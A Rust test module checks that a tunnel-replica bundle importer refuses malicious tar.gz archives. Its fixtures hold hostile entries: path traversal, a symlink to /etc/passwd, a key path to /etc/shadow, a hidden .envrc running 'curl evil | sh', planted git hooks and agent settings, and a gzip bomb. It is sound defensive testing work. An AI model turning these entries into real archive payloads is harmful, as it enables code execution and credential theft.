//! Bundles that no `export` made: nothing of them reaches the disk.

use std::io::Write;
use std::path::{Path, PathBuf};

use flate2::Compression;
use flate2::write::GzEncoder;
use proptest::prelude::*;
use serde_json::{Value, json};

use super::{bundle, init_from, listed};
use crate::support::{deployment, folder, of_another_ca, sha256, token, tree};

/// An entry of an archive, as raw as a header can be.
struct Raw {
    name: String,
    kind: tar::EntryType,
    link: &'static str,
    bytes: Vec<u8>,
}

fn file(name: &str, bytes: impl Into<Vec<u8>>) -> Raw {
    Raw { name: format!("mcp-tunnel-replica/{name}"), kind: tar::EntryType::Regular, link: "", bytes: bytes.into() }
}

fn packed(entries: &[Raw]) -> Vec<u8> {
    let mut archive = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    for entry in entries {
        let mut header = tar::Header::new_gnu();
        header.as_old_mut().name[..entry.name.len()].copy_from_slice(entry.name.as_bytes());
        header.set_entry_type(entry.kind);
        header.set_size(entry.bytes.len() as u64);
        header.set_mode(0o6777);
        if !entry.link.is_empty() {
            header.set_link_name(entry.link).unwrap();
        }
        header.set_cksum();
        archive.append(&header, entry.bytes.as_slice()).unwrap();
    }
    archive.into_inner().unwrap().finish().unwrap()
}

/// The files of a good bundle, its `replica.json` first and apart.
fn good(archive: &Path) -> (Value, Vec<Raw>) {
    let mut files: Vec<Raw> = listed(archive)
        .into_iter()
        .map(|(name, _, bytes)| Raw { name, kind: tar::EntryType::Regular, link: "", bytes })
        .collect();
    let manifest = files.remove(0);
    (serde_json::from_slice(&manifest.bytes).unwrap(), files)
}

/// The same with more files that its `replica.json` lists, after a change of that.
fn with(archive: &Path, more: Vec<Raw>, change: impl Fn(&mut Value)) -> Vec<u8> {
    let (mut manifest, mut files) = good(archive);
    for entry in more {
        let name = entry.name.trim_start_matches("mcp-tunnel-replica/");
        manifest["files"][name] = json!(sha256(&entry.bytes));
        files.retain(|known| known.name != entry.name);
        files.push(entry);
    }
    change(&mut manifest);
    files.insert(0, file("replica.json", manifest.to_string()));
    packed(&files)
}

/// It is refused in time, and the folder with everything around it is as it was.
fn refused(parent: &Path, bytes: &[u8], what: &str) {
    let place = parent.join("bad.tar.gz");
    std::fs::write(&place, bytes).unwrap();
    let before = tree(parent);
    let answer = init_from(&parent.join("new"), &place).bounded().run();
    assert_eq!(answer.json["error"]["code"], "request", "{what}: {:#}", answer.json);
    assert_eq!(tree(parent), before, "{what}");
}

#[test]
fn what_no_export_makes_is_refused() {
    let parent = folder();
    let dir = deployment(parent.path());
    let archive = bundle(&dir, parent.path(), "b.tar.gz");
    let same = |_: &mut Value| {};
    let link = |kind, link| Raw { kind, link, ..file("config/x", "") };
    let key = std::fs::read(dir.join("data/ca.key")).unwrap();
    let absolute = Raw { name: "/tmp/mcp-tunnels-test-absolute".into(), ..file("x", "x") };
    for (what, more) in [
        ("traversal", file("../../outside", "x")),
        ("traversal inside", file("config/../../outside", "x")),
        ("absolute", absolute),
        ("another folder", Raw { name: "elsewhere/x".into(), ..file("x", "x") }),
        ("link out", link(tar::EntryType::Symlink, "/etc/passwd")),
        ("hard link", link(tar::EntryType::Link, "mcp-tunnel-replica/.env")),
        ("device", link(tar::EntryType::Char, "")),
        ("pipe", link(tar::EntryType::Fifo, "")),
        ("hidden file", file(".envrc", "curl evil | sh")),
        ("hidden folder", file(".claude/settings.json", "{}")),
        ("git hook", file("own/.git/hooks/post-checkout", "x")),
        ("CA key", file("data/ca.key", key.clone())),
        ("CA key under another name", file("own/x.txt", key)),
        ("token", file("own/x.txt", token("healthy"))),
        ("a second name by case", file("Docker-Compose.yaml", "x")),
        ("a file as a folder", file("docker-compose.yaml/x", "x")),
        ("too large", file("own/large", vec![0; (4 << 20) + 1])),
    ] {
        refused(parent.path(), &with(&archive, vec![more], same), what);
    }
    assert!(!Path::new("/tmp/mcp-tunnels-test-absolute").exists());
    type Change<'a> = (&'a str, &'a dyn Fn(&mut Value));
    let changes: [Change<'_>; 7] = [
        ("another digest", &|m| m["files"]["docker-compose.yaml"] = json!("0".repeat(64))),
        ("a file that is not there", &|m| m["files"]["more"] = json!("0".repeat(64))),
        ("another format", &|m| m["format"] = json!(2)),
        ("no domain", &|m| m["domain"] = json!("not a domain")),
        ("a pair elsewhere", &|m| m["pair"]["key"] = json!("../../etc/shadow")),
        ("no pair", &|m| drop(m.as_object_mut().unwrap().remove("pair"))),
        ("certificates that are more", &|m| m["scope"] = json!("certificate")),
    ];
    for (what, change) in changes {
        refused(parent.path(), &with(&archive, Vec::new(), change), what);
    }
    let mut bomb = GzEncoder::new(Vec::new(), Compression::best());
    let zeros = vec![0; 1 << 20];
    (0..100).for_each(|_| bomb.write_all(&zeros).unwrap());
    refused(parent.path(), &bomb.finish().unwrap(), "bomb");
    let many: Vec<Raw> = (0..1100).map(|n| file(&format!("own/{n}"), "")).collect();
    refused(parent.path(), &packed(&many), "many");
    for bytes in [&b""[..], b"not gzip", &[0x1f, 0x8b, 8, 0], &packed(&[])] {
        refused(parent.path(), bytes, "garbage");
    }
}

#[test]
fn a_bundle_that_is_no_file_is_an_error() {
    let parent = folder();
    let pipe = parent.path().join("pipe.tar.gz");
    rustix::fs::mkfifoat(rustix::fs::CWD, &pipe, rustix::fs::Mode::from_raw_mode(0o600)).unwrap();
    let cases: [(PathBuf, &str); 4] = [
        (parent.path().join("missing.tar.gz"), "io"),
        (parent.path().to_path_buf(), "unexpected-file"),
        (pipe, "unexpected-file"),
        ("/dev/zero".into(), "unexpected-file"),
    ];
    for (place, code) in cases {
        let answer = init_from(&parent.path().join("new"), &place).bounded().run().expect(2);
        assert_eq!(answer.json["error"]["code"], code, "{}", place.display());
    }
    assert!(!parent.path().join("new").exists());
}

#[test]
fn a_pair_that_does_not_fit_is_a_finding_and_nothing_is_written() {
    let parent = folder();
    let dir = deployment(parent.path());
    let archive = bundle(&dir, parent.path(), "b.tar.gz");
    let other = parent.path().join("elsewhere");
    std::fs::create_dir(&other).unwrap();
    let stranger = of_another_ca(&other);
    let theirs = |name: &str| file(name, std::fs::read(stranger.join(name)).unwrap());
    for name in ["data/tls.crt", "data/ca.crt", "data/tls.key"] {
        let place = parent.path().join("odd.tar.gz");
        std::fs::write(&place, with(&archive, vec![theirs(name)], |_| {})).unwrap();
        let answer = init_from(&parent.path().join("new"), &place).run().expect(1);
        assert!(!answer.findings().is_empty() && !parent.path().join("new").exists(), "{name}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// One byte of the archive, or of what it holds, is another one: it is refused, or it makes a sound replica.
    #[test]
    fn a_flipped_byte_does_no_harm(at in any::<prop::sample::Index>(), bit in 0_u8..8, inside in any::<bool>()) {
        let parent = folder();
        let dir = deployment(parent.path());
        let archive = bundle(&dir, parent.path(), "b.tar.gz");
        let bytes = std::fs::read(&archive).unwrap();
        let flipped = if inside {
            let mut plain = Vec::new();
            std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(bytes.as_slice()), &mut plain).unwrap();
            let at = at.index(plain.len());
            plain[at] ^= 1 << bit;
            let mut gz = GzEncoder::new(Vec::new(), Compression::fast());
            gz.write_all(&plain).unwrap();
            gz.finish().unwrap()
        } else {
            let mut bytes = bytes;
            let at = at.index(bytes.len());
            bytes[at] ^= 1 << bit;
            bytes
        };
        let place = parent.path().join("flipped.tar.gz");
        std::fs::write(&place, flipped).unwrap();
        let new = parent.path().join("new");
        let answer = init_from(&new, &place).bounded().run();
        if answer.code == 0 {
            for name in ["data/tls.crt", "data/tls.key", "data/ca.crt", "docker-compose.yaml"] {
                prop_assert!(std::fs::read(new.join(name)).unwrap() == std::fs::read(dir.join(name)).unwrap(), "{}", name);
            }
        } else {
            prop_assert!(!new.exists());
        }
    }
}
